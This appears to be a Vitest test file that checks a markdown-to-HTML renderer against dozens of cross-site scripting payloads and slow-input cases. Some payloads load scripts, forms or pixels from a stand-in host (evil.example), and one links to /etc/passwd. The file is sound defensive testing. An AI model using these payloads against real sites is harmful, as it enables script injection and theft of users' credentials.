import { describe, expect, test } from 'vitest'
import { toHtml } from '../../server/text/markdown.ts'
import { expectHarmless } from '../support/harmless-html.ts'
import { processorTime } from '../support/processor-time.ts'

describe('no harmful HTML results', () => {
  test.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href=x onclick=alert(1)>a</a>',
    '<p style="background:url(//evil.example)">a</p>',
    '<style>*{display:none}</style>',
    '<base href="//evil.example">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<form action=//evil.example><input name=password></form>',
    '<!--<img src="--><img src=x onerror=alert(1)>">',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '</p></div><script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</script>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '`<img src=x onerror=alert(1)>`',
    '```html"onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    '    <script>alert(1)</script>',
    '> <script>alert(1)</script>',
    '- <img src=x onerror=alert(1)>',
    '1. <svg onload=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '&#x3C;script&#x3E;alert(1)',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](jaVa\tscript:alert(1))',
    '[a](java&#9;script:alert(1))',
    '[a](java&Tab;script&colon;alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](\u0001javascript:alert(1))',
    '[a](<java\nscript:alert(1)>)',
    '[a](<javascript:alert(1)>)',
    '[a](%6Aavascript:alert(1))',
    '[a](vbscript:msgbox(1))',
    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[a](data:image/svg+xml,<svg/onload=alert(1)>)',
    '[a](file:///etc/passwd)',
    '[a](blob:https://evil.example/1)',
    '[a](//evil.example)',
    '[a](\\\\evil.example)',
    '[a](/\\evil.example)',
    '[a](\t//evil.example)',
    '[a](x-apple-data://1)',
    '[a][1]\n\n[1]: javascript:alert(1)',
    '[a]: javascript:alert(1) "b"\n[a]',
    '<javascript:alert(1)>',
    '<data:text/html,a>',
    '[a](https://x.example "onmouseover=alert(1)")',
    '[a](https://x.example"onmouseover="alert(1))',
    `[a](https://x.example'onmouseover='alert(1))`,
    '[<img src=x onerror=alert(1)>](https://x.example)',
    '[![a](https://evil.example/pixel.png)](https://x.example)',
    '![a](https://evil.example/pixel.png)',
    '![a](javascript:alert(1))',
    '![a][1]\n\n[1]: https://evil.example/pixel.png',
    'https://x.example/"onmouseover="alert(1)',
    'https://x.example/<script>alert(1)</script>',
    'javascript://x.example/%0aalert(1)',
    '**<b onmouseover=alert(1)>**',
    '# <script>alert(1)</script>',
    '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
    '\u202e<script>alert(1)</script>',
    '<\u0000script>alert(1)</script>',
    '<script\u2028>alert(1)</script>',
    '\\<script>alert(1)\\</script>',
    'constructor __proto__ [a](constructor) [__proto__]',
  ])('%j', (text) => {
    for (const author of ['team', 'customer'] as const) {
      expectHarmless(toHtml(text, author))
      expectHarmless(toHtml(`before ${text} after`, author))
      expectHarmless(toHtml(`${text}\n\n${text}`, author))
    }
  })

  test('at any depth of nesting, and in bounded time', async () => {
    for (const piece of [
      '> ',
      '- ',
      '[',
      '![',
      '*a ',
      '`',
      '<b>',
      '[a](',
      '&#',
      '**a_',
      '~~',
      '1. ',
      'https://a.b/(',
      '\t',
      '~~~x\n',
      '```\n~~~\n',
    ]) {
      for (const author of ['team', 'customer'] as const) {
        const long = piece.repeat(20_000)
        const spent = await processorTime(() => {
          expectHarmless(toHtml(long.slice(0, 20_000), author))
          expectHarmless(toHtml(`${long.slice(0, 19_000)}<script>alert(1)</script>`, author))
        })
        expect(spent, `milliseconds of work for ${piece}`).toBeLessThan(20_000)
      }
    }
  })

  test('with a fence that ends in a backtick, which makes it none, in bounded time', async () => {
    const fence = `${'~'.repeat(400_000)}\``
    expect(await processorTime(() => toHtml(fence, 'customer'))).toBeLessThan(20_000)
  })

  test('with thousands of addresses, of which 500 become links and all stay in the text', () => {
    for (const piece of ['a@b.cd ', 'http://a.b\n', '<c@d.ef> www.g.hi ']) {
      for (const author of ['team', 'customer'] as const) {
        const text = piece.repeat(20_000).slice(0, 20_000).trim()
        const html = toHtml(text, author)
        expect(html.match(/<a /g)).toHaveLength(500)
        expect(html.length).toBeLessThan(100_000)
        const words = (shown: string) => shown.match(/[a-z@:/.]+/g)
        const shown = html
          .replace(/<[^>]*>/g, ' ')
          .replaceAll('&lt;', ' ')
          .replaceAll('&gt;', ' ')
        expect(words(shown)).toEqual(words(text))
        expectHarmless(html)
      }
    }
  })
})
